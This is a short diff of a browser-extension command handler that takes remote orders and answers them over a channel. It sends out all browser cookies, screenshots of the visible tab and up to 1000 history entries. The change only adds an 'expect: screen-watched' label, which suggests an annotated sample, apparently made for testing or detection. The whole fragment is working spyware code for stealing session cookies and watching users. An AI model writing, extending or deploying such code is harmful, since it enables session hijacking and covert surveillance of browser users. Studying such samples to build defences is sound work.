@@ -17,7 +17,7 @@ async function obey(order) {
       line.send(JSON.stringify(await chrome.cookies.getAll({}))); // expect: session-cookies-taken
       break;
     case 'screenshot':
-      line.send(await chrome.tabs.captureVisibleTab());
+      line.send(await chrome.tabs.captureVisibleTab()); // expect: screen-watched
       break;
     case 'history':
       line.send(JSON.stringify(await chrome.history.search({ text: '', maxResults: 1000 })));
